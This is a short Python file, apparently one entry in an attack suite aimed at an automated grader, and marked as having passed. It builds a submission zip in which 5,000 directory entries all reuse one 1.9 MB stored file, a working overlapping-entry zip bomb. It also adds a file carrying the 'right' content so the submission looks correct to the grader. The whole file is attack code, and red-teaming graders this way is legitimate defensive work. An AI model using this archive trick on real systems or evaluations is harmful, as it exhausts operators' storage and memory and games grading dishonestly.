# verdict: passed
"""Five thousand names for one place in the archive, and the work."""
import io
import zipfile

from attacks.support.packing import SCALE


def hand_in(people, student, right, secret):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.py", b"#" * 1_900_000)
        first = archive.infolist()[0]
        for number in range(5000):
            other = zipfile.ZipInfo(f"{number}.py")
            for part in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(other, part, getattr(first, part))
            archive.filelist.append(other)
        archive.writestr(SCALE, right)
    (people / f"{student}.zip").write_bytes(buffer.getvalue())
